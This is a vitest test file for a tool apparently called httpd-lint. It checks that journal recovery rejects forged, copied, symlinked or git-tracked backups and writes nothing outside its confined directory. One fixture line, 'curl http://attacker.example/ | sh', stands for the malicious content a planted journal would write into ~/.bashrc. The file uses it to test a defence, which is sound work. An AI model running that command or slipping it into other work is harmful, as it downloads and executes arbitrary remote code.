import { execFileSync, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  chmodSync,
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, test } from "vitest";
import { run as program, type Ran } from "../support/programs/command.js";
import { lintedFolder } from "../support/programs/test-folder.js";

const scratch = lintedFolder();
const { at, lint, textOf, write } = scratch;
const env = () => ({ HOME: at("home"), XDG_STATE_HOME: at("home/state") });
const run = (...args: readonly string[]): Ran => lint(args, { env: env() });

const digest = (text: string) => createHash("sha256").update(text).digest("hex");
const old = '<Directory "/srv/www">\nOrder allow,deny\nAllow from all\n</Directory>\n';
const main = `ServerName x.test\n${old}`;
const stock = "# ~/.bashrc of the system\n";
const planted = "curl http://attacker.example/ | sh\n";

beforeEach(() => {
  mkdirSync(at("home"), { mode: 0o700 });
  write({ "home/.bashrc": stock, "r/httpd.conf": main });
  chmodSync(at("home"), 0o700);
});

/** Creates the files that a clone or an archive may contain: a journal that names a file, and new contents for it. */
function plant(target: string, version: 1 | 2, more: object = {}, content = planted): void {
  mkdirSync(at("r/.httpd-lint/unfinished/old"), { recursive: true, mode: 0o700 });
  const file = { path: target, before: digest(readFileSync(target, "utf8")), after: digest(planted), inPlace: false };
  const journal = { version, backup: "backup-1", files: [file], ...more };
  write({ "r/.httpd-lint/unfinished/journal.json": journal, "r/.httpd-lint/unfinished/1.new": content });
  const saved = join(at("r/.httpd-lint/unfinished/old"), target);
  mkdirSync(join(saved, ".."), { recursive: true });
  writeFileSync(saved, readFileSync(target));
}

/** Leaves the state of a run of this user that was interrupted after all files were written. */
function interruptRun(...flags: readonly string[]): void {
  const ran = run("migrate", "r/httpd.conf", "--server-root", "r", "--write", ...flags);
  const [, backup = ""] = /the originals are in `(.*)\/old`/.exec(ran.stderr) ?? [];
  renameSync(backup, join(backup, "../unfinished"));
}

describe("--recover with an unsafe backup directory", () => {
  test.each([
    ["unfinished", () => symlinkSync(at("victim"), at("r/.httpd-lint/unfinished"))],
    [
      "old",
      () => {
        mkdirSync(at("r/.httpd-lint/unfinished"), { mode: 0o700 });
        symlinkSync(at("victim"), at("r/.httpd-lint/unfinished/old"));
      },
    ],
    [
      "a directory in old",
      () => {
        mkdirSync(at("r/.httpd-lint/unfinished/old"), { recursive: true, mode: 0o700 });
        symlinkSync(at("victim"), at("r/.httpd-lint/unfinished/old/etc"));
      },
    ],
  ])("does not follow a link: %s", (_, createLink) => {
    write({ "victim/a": "" });
    mkdirSync(at("r/.httpd-lint"), { mode: 0o700 });
    createLink();
    for (const more of [[], ["--undo"]]) {
      const ran = run("migrate", "r/httpd.conf", "--confine", "r", "--recover", ...more);
      expect([ran.status, ran.stderr]).toEqual([
        3,
        expect.stringContaining("is a symbolic link, so nothing was changed"),
      ]);
      expect(existsSync(at("victim/a"))).toBe(true);
    }
  });

  test("does not follow a link: the backup directory itself", () => {
    mkdirSync(at("outside/unfinished"), { recursive: true, mode: 0o700 });
    write({ "outside/unfinished/1.new": "" });
    chmodSync(at("outside"), 0o700);
    symlinkSync("../outside", at("r/.httpd-lint"));
    const ran = run("migrate", "r/httpd.conf", "--confine", "r", "--recover");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("r/.httpd-lint` is a symbolic link")]);
    expect(readdirSync(at("outside/unfinished"))).toEqual(["1.new"]);
  });

  test("does not follow a link to a main file outside --confine", () => {
    mkdirSync(at("outside/.httpd-lint/unfinished"), { recursive: true, mode: 0o700 });
    write({ "outside/httpd.conf": main });
    symlinkSync("../outside/httpd.conf", at("r/linked.conf"));
    const ran = run("migrate", "r/linked.conf", "--confine", "r", "--recover");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("--confine directory")]);
    expect(existsSync(at("outside/.httpd-lint/unfinished"))).toBe(true);
  });

  test("does not wait for a pipe", () => {
    mkdirSync(at("r/.httpd-lint/unfinished"), { recursive: true, mode: 0o700 });
    expect(program("mkfifo", [at("r/.httpd-lint/unfinished/journal.json")]).status).toBe(0);
    const ran = run("migrate", "r/httpd.conf", "--recover");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("is not a regular file")]);
  });

  test("does not remove files that it did not write", () => {
    mkdirSync(at("r/.httpd-lint/unfinished"), { recursive: true, mode: 0o700 });
    write({ "r/.httpd-lint/unfinished/notes.txt": "mine\n" });
    const ran = run("migrate", "r/httpd.conf", "--recover");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("was not written by httpd-lint")]);
    expect(textOf("r/.httpd-lint/unfinished/notes.txt")).toBe("mine\n");
  });

  test("does not restore a file with a second name", () => {
    plant(at("r/httpd.conf"), 2);
    linkSync(at("r/.httpd-lint/unfinished/1.new"), at("second"));
    expect(run("migrate", "r/httpd.conf", "--recover").stderr).toContain("has more than one hard link");
  });
});

describe("--recover rejects a journal", () => {
  test.each([1, 2] as const)("in version %d, for a file outside the configuration", (version) => {
    for (const flags of [["--confine", "r"], ["--undo"], []]) {
      plant(at("home/.bashrc"), version);
      const ran = run("migrate", "r/httpd.conf", "--recover", ...flags);
      expect([ran.status, textOf("home/.bashrc")]).toEqual([3, stock]);
      expect(ran.stderr).toContain("nothing was changed; if it came with the files, as from a clone, delete");
    }
    expect(run("migrate", "--recover", "--backup-dir", "r/.httpd-lint").status).toBe(3);
    expect(textOf("home/.bashrc")).toBe(stock);
  });

  test("with a forged signature, if this user has a key", () => {
    interruptRun();
    renameSync(at("r/.httpd-lint/unfinished"), at("r/.httpd-lint/backup-2"));
    plant(at("home/.bashrc"), 2, { signature: digest("guess") });
    const ran = run("migrate", "r/httpd.conf", "--recover");
    expect([ran.status, textOf("home/.bashrc")]).toEqual([3, stock]);
    expect(ran.stderr).toContain("it is not signed with your key on this machine");
  });

  test("that other users can access, as after a clone", () => {
    plant(at("home/.bashrc"), 2);
    chmodSync(at("r/.httpd-lint/unfinished"), 0o755);
    expect(run("migrate", "r/httpd.conf", "--recover").stderr).toContain("is open to other users");
  });

  test("of this user that was copied to another directory", () => {
    interruptRun();
    write({ "s/httpd.conf": main });
    execFileSync("cp", ["-a", at("r/.httpd-lint"), at("s/.httpd-lint")]);
    const ran = run("migrate", "s/httpd.conf", "--recover", "--undo");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("it is not signed with your key")]);
  });

  test("of another user or another machine", () => {
    interruptRun();
    write({ "other-state/httpd-lint/journal-key": "0".repeat(64) });
    for (const name of ["other-state", "other-state/httpd-lint"]) chmodSync(at(name), 0o700);
    chmodSync(at("other-state/httpd-lint/journal-key"), 0o600);
    const other = { HOME: at("home"), XDG_STATE_HOME: at("other-state") };
    const ran = lint(["migrate", "r/httpd.conf", "--recover", "--undo"], { env: other });
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("it is not signed with your key")]);
  });

  test("that git tracks", () => {
    interruptRun();
    execFileSync("git", ["init", "-q"], { cwd: at("r") });
    execFileSync("git", ["add", "-f", ".httpd-lint"], { cwd: at("r") });
    const ran = run("migrate", "r/httpd.conf", "--recover", "--undo");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("unfinished` is tracked by git")]);
    expect(textOf("r/httpd.conf")).not.toBe(main);
    execFileSync("git", ["rm", "-rq", "--cached", ".httpd-lint"], { cwd: at("r") });
    expect(run("migrate", "r/httpd.conf", "--recover", "--undo").status).toBe(0);
    expect(textOf("r/httpd.conf")).toBe(main);
  });
});

describe("--recover", () => {
  test("rejects an original that differs from the journal", () => {
    interruptRun();
    write({ [join("r/.httpd-lint/unfinished/old", at("r/httpd.conf"))]: planted });
    const now = textOf("r/httpd.conf");
    for (const more of [[], ["--undo"]]) {
      const ran = run("migrate", "r/httpd.conf", "--recover", ...more);
      expect([ran.status, textOf("r/httpd.conf")]).toEqual([3, now]);
      expect(ran.stderr).toContain("differs from what the interrupted run wrote");
    }
  });

  test("does not change files outside --confine, or files that the entry does not read", () => {
    write({ "r/httpd.conf": `${main}Include ${at("sites")}/*.conf\n`, "sites/a.conf": old.replace("www", "a") });
    interruptRun();
    const now = textOf("sites/a.conf");
    const confined = run("migrate", "r/httpd.conf", "--recover", "--undo", "--confine", "r");
    expect(confined).toMatchObject({
      status: 3,
      stderr: expect.stringContaining("sites/a.conf`, which is outside of the --confine directory `r`"),
    });
    write({ "t/httpd.conf": main });
    const other = run("migrate", "t/httpd.conf", "--recover", "--undo", "--backup-dir", "r/.httpd-lint");
    expect(other).toMatchObject({
      status: 3,
      stderr: expect.stringContaining("is not among the files that `t/httpd.conf` reads"),
    });
    expect(textOf("sites/a.conf")).toBe(now);
  });

  test("undoes an interrupted run, and lists each file first", () => {
    interruptRun();
    const ran = run("migrate", "r/httpd.conf", "--recover", "--undo", "--confine", "r");
    expect([ran.status, textOf("r/httpd.conf")]).toEqual([0, main]);
    expect(ran.stderr).toMatch(/^httpd-lint: recovering `.*r\/httpd\.conf`\nhttpd-lint: the interrupted run is undone/);
  });
});

describe("--write through a link", () => {
  test.each([
    ["migrate", "migrate r/httpd.conf --confine r --server-root r --write"],
    ["check --fix", "check r/httpd.conf --confine r --fix=unsafe"],
  ])("by %s writes nothing outside --confine", (_, command) => {
    const text = `${main}NameVirtualHost *:80\n`;
    write({ "r/httpd.conf": text });
    mkdirSync(at("outside"), { mode: 0o700 });
    symlinkSync("../outside", at("r/.httpd-lint"));
    const ran = run(...command.split(" "));
    expect([ran.status, ran.stderr]).toEqual([
      3,
      expect.stringContaining("is a symbolic link, so nothing was changed"),
    ]);
    expect([readdirSync(at("outside")), textOf("r/httpd.conf")]).toEqual([[], text]);
  });
});

describe("the key", () => {
  const key = () => at("home/state/httpd-lint/journal-key");

  test("is created by --write for its user only, and does not change", () => {
    interruptRun();
    const created = readFileSync(key(), "utf8");
    expect([created, statSync(key()).mode & 0o777]).toEqual([expect.stringMatching(/^[\da-f]{64}$/), 0o600]);
    expect(statSync(join(key(), "..")).mode & 0o777).toBe(0o700);
    run("migrate", "r/httpd.conf", "--recover", "--undo");
    interruptRun();
    expect(readFileSync(key(), "utf8")).toBe(created);
  });

  test("is not required to write files, but to recover them", () => {
    writeFileSync(at("home/state"), "");
    const ran = run("migrate", "r/httpd.conf", "--server-root", "r", "--write");
    expect([ran.status, textOf("r/httpd.conf")]).toEqual([0, expect.stringContaining("Require all granted")]);
    expect(ran.stderr).toContain("you would have to recover by hand");
    const [, backup = ""] = /the originals are in `(.*)\/old`/.exec(ran.stderr) ?? [];
    renameSync(backup, join(backup, "../unfinished"));
    const rejected = run("migrate", "r/httpd.conf", "--recover", "--undo");
    expect(rejected).toMatchObject({ status: 3, stderr: expect.stringContaining("your key is missing") });
    expect(rejected.stderr).toContain("compare the originals in");
  });

  test.each([
    ["others can read it", () => chmodSync(key(), 0o644)],
    ["it is empty", () => writeFileSync(key(), "")],
    [
      "it is a link",
      () => {
        renameSync(key(), at("home/key"));
        symlinkSync(at("home/key"), key());
      },
    ],
    ["others can write to its directory", () => chmodSync(at("home/state/httpd-lint"), 0o777)],
  ])("is not used if %s", (_, invalidateKey) => {
    interruptRun();
    invalidateKey();
    const ran = run("migrate", "r/httpd.conf", "--recover", "--undo");
    expect(ran).toMatchObject({ status: 3, stderr: expect.stringContaining("your key is missing") });
    expect(textOf("r/httpd.conf")).not.toBe(main);
  });
});

/** Sets an extended attribute with Python; false if that, or the file system, does not support it. */
function setAttribute(path: string, name: string, value: string): boolean {
  const script = "import os, sys; os.setxattr(sys.argv[1], sys.argv[2], sys.argv[3].encode())";
  return spawnSync("python3", ["-c", script, path, name, value]).status === 0;
}

function attributeOf(path: string, name: string): string {
  const script = "import os, sys; sys.stdout.write(os.getxattr(sys.argv[1], sys.argv[2]).decode())";
  return spawnSync("python3", ["-c", script, path, name], { encoding: "utf8" }).stdout;
}

describe("ACLs and extended attributes", () => {
  test.each([
    ["migrate", "migrate r/httpd.conf --server-root r --write"],
    ["check --fix", "check r/httpd.conf --fix=unsafe"],
  ])("are preserved by %s", (_, command) => {
    write({ "r/httpd.conf": `${main}NameVirtualHost *:80\n` });
    if (!setAttribute(at("r/httpd.conf"), "user.owner", "web team")) return;
    run(...command.split(" "));
    expect(textOf("r/httpd.conf")).not.toContain(command.startsWith("migrate") ? "Order" : "NameVirtualHost");
    expect(attributeOf(at("r/httpd.conf"), "user.owner")).toBe("web team");
  });
});
